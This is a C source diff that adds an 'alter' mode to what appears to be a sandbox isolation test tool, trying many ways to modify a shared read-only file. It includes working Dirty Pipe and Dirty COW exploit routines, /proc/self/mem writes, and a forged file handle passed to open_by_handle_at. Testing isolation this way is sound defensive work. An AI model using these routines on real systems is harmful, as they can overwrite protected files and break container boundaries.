@@ -5,13 +5,16 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <ftw.h>
+#include <linux/fs.h>
 #include <mqueue.h>
+#include <pthread.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/inotify.h>
+#include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/socket.h>
@@ -19,7 +22,9 @@
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/types.h>
+#include <sys/uio.h>
 #include <sys/un.h>
+#include <sys/xattr.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -346,6 +351,262 @@ static int readable(const char *begin, const char *end)
     return puts("end"), 0;
 }
 
+/* Ways to alter a file that others share, each on a file of its own with that name. What a call answers is printed;
+ * whether the file has changed is for others to see, who look at what lies below. */
+
+static const char payload[] = "overwritten";
+#define PAYLOAD (sizeof payload - 1)
+
+static int shared_open(const char *path, int flags)
+{
+    return open(path, flags | O_CLOEXEC);
+}
+
+/* By a page of a pipe that is the file's own page in the cache, and says that it can be added to (CVE-2022-0847). */
+static int by_splice(const char *path)
+{
+    static char filler[4096];
+    int ends[2], file = shared_open(path, O_RDONLY);
+    if (file < 0 || pipe(ends) < 0)
+        return errno;
+    long size = fcntl(ends[1], F_GETPIPE_SZ);
+    for (long left = size; left > 0; left -= sizeof filler)
+        if (write(ends[1], filler, sizeof filler) < 0)
+            return errno;
+    for (long left = size; left > 0; left -= sizeof filler)
+        if (read(ends[0], filler, sizeof filler) < 0)
+            return errno;
+    off_t start = 0;
+    if (splice(file, &start, ends[1], NULL, 1, 0) < 0 || write(ends[1], payload, PAYLOAD) < 0)
+        return errno;
+    return 0;
+}
+
+/* By a page that was lent to a pipe, moved into a file that is open for reading. */
+static int by_vmsplice(const char *path)
+{
+    int ends[2], file = shared_open(path, O_RDONLY);
+    char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    if (file < 0 || pipe(ends) < 0 || page == MAP_FAILED)
+        return errno;
+    memcpy(page, payload, PAYLOAD);
+    struct iovec lent = {.iov_base = page, .iov_len = 4096};
+    if (vmsplice(ends[1], &lent, 1, SPLICE_F_GIFT) < 0)
+        return errno;
+    off_t start = 0;
+    return number(splice(ends[0], NULL, file, &start, 4096, SPLICE_F_MOVE));
+}
+
+/* By a mapping that is shared with the file, made while that was only read, and made writable later. */
+static int by_mprotect(const char *path)
+{
+    int file = shared_open(path, O_RDONLY);
+    char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
+    if (page == MAP_FAILED || mprotect(page, 4096, PROT_READ | PROT_WRITE) < 0)
+        return errno;
+    memcpy(page, payload, PAYLOAD);
+    return number(msync(page, 4096, MS_SYNC));
+}
+
+/* By a shared mapping of the file that was opened for reading before the file was copied up. */
+static int by_mapping(const char *path)
+{
+    int reads = shared_open(path, O_RDONLY), writes = shared_open(path, O_RDWR);
+    char *seen = mmap(NULL, 4096, PROT_READ, MAP_SHARED, reads, 0);
+    char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, writes, 0);
+    if (seen == MAP_FAILED || page == MAP_FAILED)
+        return errno;
+    memcpy(page, payload, PAYLOAD);
+    return number(msync(page, 4096, MS_SYNC));
+}
+
+/* By what writes to one's own memory whatever its protection. */
+static int by_memory(const char *path)
+{
+    int file = shared_open(path, O_RDONLY), memory = shared_open("/proc/self/mem", O_RDWR);
+    char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
+    if (page == MAP_FAILED || memory < 0)
+        return errno;
+    return number(pwrite(memory, payload, PAYLOAD, (off_t)page));
+}
+
+static volatile int racing;
+
+static void *forget(void *page)
+{
+    while (racing)
+        madvise(page, 4096, MADV_DONTNEED);
+    return NULL;
+}
+
+/* By a private copy of a page that is thrown away while it is written to (CVE-2016-5195). */
+static int by_race(const char *path)
+{
+    int file = shared_open(path, O_RDONLY), memory = shared_open("/proc/self/mem", O_RDWR);
+    char *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
+    pthread_t other;
+    if (page == MAP_FAILED || memory < 0)
+        return errno;
+    racing = 1;
+    if ((errno = pthread_create(&other, NULL, forget, page)) != 0)
+        return errno;
+    long result = 0;
+    for (int i = 0; i < 20000 && result >= 0; i++)
+        result = pwrite(memory, payload, PAYLOAD, (off_t)page);
+    int error = number(result);
+    racing = 0;
+    pthread_join(other, NULL);
+    return error;
+}
+
+/* By a link that stands for an open file, or for a mapped one. */
+static int by_link(const char *directory, const char *path)
+{
+    char link[128];
+    int file = shared_open(path, O_RDONLY);
+    char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
+    if (page == MAP_FAILED)
+        return errno;
+    if (strcmp(directory, "fd") == 0)
+        snprintf(link, sizeof link, "/proc/self/fd/%d", file);
+    else
+        snprintf(link, sizeof link, "/proc/self/map_files/%lx-%lx", (long)page, (long)page + 4096);
+    int again = shared_open(link, O_RDWR);
+    return again < 0 ? errno : number(write(again, payload, PAYLOAD));
+}
+
+static int by_descriptor_link(const char *path)
+{
+    return by_link("fd", path);
+}
+
+static int by_mapping_link(const char *path)
+{
+    return by_link("map_files", path);
+}
+
+static int by_handle(const char *path)
+{
+    char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
+    struct file_handle *handle = (struct file_handle *)space;
+    handle->handle_bytes = MAX_HANDLE_SZ;
+    int mount, directory = shared_open("/", O_RDONLY | O_DIRECTORY);
+    /* Where file systems say nothing of it, what a handle looks like is no secret. */
+    if (name_to_handle_at(AT_FDCWD, path, handle, &mount, 0) < 0) {
+        handle->handle_bytes = 8;
+        handle->handle_type = 1;
+        memcpy(handle->f_handle, "\2\0\0\0\0\0\0\0", 8);
+    }
+    int again = open_by_handle_at(directory, handle, O_RDWR | O_CLOEXEC);
+    return again < 0 ? errno : number(write(again, payload, PAYLOAD));
+}
+
+static int by_flags(const char *path)
+{
+    int flags = FS_IMMUTABLE_FL | FS_NODUMP_FL, file = shared_open(path, O_RDONLY);
+    if (ioctl(file, FS_IOC_SETFLAGS, &flags) == 0)
+        return 0;
+    flags = FS_NODUMP_FL;
+    return number(ioctl(file, FS_IOC_SETFLAGS, &flags));
+}
+
+static int by_hole(const char *path)
+{
+    int file = shared_open(path, O_RDONLY);
+    return number(fallocate(file, 3 /* PUNCH_HOLE | KEEP_SIZE */, 0, 4096));
+}
+
+static int by_clone(const char *path)
+{
+    char other[256];
+    snprintf(other, sizeof other, "%s.own", path);
+    int file = shared_open(path, O_RDONLY), own = open(other, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
+    if (write(own, payload, PAYLOAD) < 0)
+        return errno;
+    int error = number(ioctl(file, FICLONE, own));
+    off_t from = 0, to = 0;
+    if (copy_file_range(own, &from, file, &to, PAYLOAD, 0) >= 0)
+        return 0;
+    return error;
+}
+
+static int by_remount(const char *path)
+{
+    int error = number(mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
+    int file = shared_open(path, O_WRONLY);
+    if (file >= 0)
+        write(file, payload, PAYLOAD);
+    return error;
+}
+
+static int by_write(const char *path)
+{
+    int file = shared_open(path, O_WRONLY);
+    return file < 0 ? errno : number(write(file, payload, PAYLOAD));
+}
+
+static int by_truncate(const char *path)
+{
+    return number(truncate(path, 1));
+}
+
+static int by_mode(const char *path)
+{
+    return number(chmod(path, 04777));
+}
+
+static int by_owner(const char *path)
+{
+    return number(chown(path, 1, 1));
+}
+
+static int by_attribute(const char *path)
+{
+    return number(setxattr(path, "user.overwritten", payload, PAYLOAD, 0));
+}
+
+static int by_time(const char *path)
+{
+    struct timespec times[2] = {{.tv_sec = 1}, {.tv_sec = 1}};
+    int file = shared_open(path, O_RDONLY);
+    return number(futimens(file, times));
+}
+
+static int by_removal(const char *path)
+{
+    return number(unlink(path));
+}
+
+static int by_name(const char *path)
+{
+    char other[256];
+    snprintf(other, sizeof other, "%s.moved", path);
+    return number(rename(path, other));
+}
+
+/* alter DIRECTORY: every way on the file in it that has its name. */
+static int alter(const char *directory)
+{
+    static const struct {
+        const char *name;
+        int (*way)(const char *);
+    } ways[] = {
+        {"splice", by_splice}, {"vmsplice", by_vmsplice}, {"mprotect", by_mprotect},
+        {"mapping", by_mapping}, {"memory", by_memory}, {"race", by_race},
+        {"descriptor-link", by_descriptor_link}, {"mapping-link", by_mapping_link},
+        {"handle", by_handle}, {"flags", by_flags}, {"hole", by_hole}, {"clone", by_clone},
+        {"remount", by_remount}, {"write", by_write}, {"truncate", by_truncate}, {"mode", by_mode},
+        {"owner", by_owner}, {"attribute", by_attribute}, {"time", by_time},
+        {"removal", by_removal}, {"name", by_name},
+    };
+    char path[256];
+    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
+        snprintf(path, sizeof path, "%s/%s", directory, ways[i].name);
+        printf("%s %d\n", ways[i].name, ways[i].way(path));
+    }
+    return 0;
+}
+
 int main(int count, char **words)
 {
     if (count < 2)
@@ -378,6 +639,8 @@ int main(int count, char **words)
         return connect_to(count - 2, words + 2);
     if (strcmp(verb, "writable") == 0 && count == 3)
         return nftw(words[2], writable, 64, FTW_PHYS), puts("end"), 0;
+    if (strcmp(verb, "alter") == 0 && count == 3)
+        return alter(words[2]);
     if (strcmp(verb, "readable") == 0 && count == 4)
         return readable(words[2], words[3]);
     return 2;
